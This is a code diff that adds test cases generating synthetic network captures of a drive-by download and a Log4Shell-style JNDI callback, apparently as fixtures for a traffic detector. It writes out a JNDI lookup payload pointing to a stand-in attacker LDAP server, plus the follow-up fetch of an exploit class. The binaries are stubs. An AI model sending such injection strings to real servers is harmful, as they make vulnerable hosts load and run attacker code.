@@ -2,6 +2,7 @@
 """Behaviours that no honest host shows."""
 import struct
 
+import craft_ldap
 import craft_llmnr
 from craft import CLIENT, MACS, SERVER, Talk, address, ether
 from packets import ETHERNET
@@ -67,6 +68,41 @@ def case_transfer():
         talk.close()
         frames += [ether(p) for p in talk.packets]
     return ETHERNET, frames
+
+
+def visit(server, host, steps, sport):
+    """Requests for (path, answer's type, body, fields) on a connection of their own."""
+    talk = Talk(server=server, sport=sport)
+    for path, kind, body, fields in steps:
+        talk.data(0, b"\r\n".join([b"GET " + path + b" HTTP/1.1", b"Host: " + host, *fields, b"", b""]))
+        talk.data(1, b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(body)) + body)
+    talk.close()
+    return [ether(p) for p in talk.packets]
+
+
+def case_driveby():
+    """A page and a script, then a program without a name; and a program somebody clicked on."""
+    program = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0\x4c\x01" + bytes(200)
+    browser, page = b"User-Agent: Mozilla/5.0", (b"/", b"text/html", b"<script src=/a.js></script>", [b"User-Agent: Mozilla/5.0"])
+    script = (b"/a.js", b"text/javascript", b"go()", [browser, b"Referer: http://x.example/"])
+    return ETHERNET, [
+        *visit("203.0.113.9", b"news.example.net", [page, script, (b"/load.php?id=5", b"application/octet-stream", program, [browser])], 50000),
+        *visit("203.0.113.80", b"tools.example.org", [page, script, (b"/setup.exe", b"application/x-msdownload", program,
+                                                                     [browser, b"Referer: http://tools.example.org/"])], 50001)]
+
+
+def case_callback():
+    """A server is sent a lookup, asks the attacker's directory, is given a Java object, and fetches the class."""
+    web, evil, java = Talk(client="203.0.113.66", server=CLIENT, sport=50000), "203.0.113.9", b"User-Agent: Java/1.8.0_51"
+    web.data(0, request(b"/", agent=b"${jndi:ldap://203.0.113.9:1389/a}"))
+    web.data(1, OK)
+    web.close()
+    ldap = Talk(server=evil, sport=50001, dport=1389)
+    ldap.data(0, craft_ldap.search(2, craft_ldap.PRESENT, b"a", 0))
+    ldap.data(1, craft_ldap.entry(2, b"a", javaClassName=[b"foo"], javaCodeBase=[b"http://203.0.113.9/"]) + craft_ldap.done(2))
+    ldap.close()
+    return ETHERNET, [*(ether(p) for p in web.packets + ldap.packets),
+                      *visit(evil, b"203.0.113.9", [(b"/Exploit.class", b"application/java-vm", b"\xca\xfe\xba\xbe", [java])], 50002)]
 
 
 LIAR, LIAR_MAC = "10.30.1.66", "02000a1e0166"
